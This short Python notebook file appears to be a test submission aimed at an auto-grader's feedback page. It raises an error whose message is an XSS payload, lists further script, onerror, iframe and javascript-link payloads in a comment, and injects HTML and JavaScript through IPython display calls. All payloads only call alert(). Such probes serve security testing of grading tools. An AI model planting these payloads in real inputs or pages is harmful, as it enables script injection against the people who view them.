# Raises errors and writes answers that are HTML with a script, for whoever reads the feedback.
# wins: nothing, the attack is on the feedback page
# %% double
def double(x):
    raise ValueError("<script>alert('attacked')</script><img src=x onerror=alert('attacked')>")


# %% why
# <script>alert('attacked')</script><img src=x onerror="alert('attacked')"><iframe src="javascript:alert('attacked')"></iframe>
#
# [link](javascript:alert('attacked'))
# %% end
from IPython.display import HTML, Javascript, display

display(HTML("<script>alert('attacked')</script><svg onload=alert('attacked')>"))
display(Javascript("alert('attacked')"))
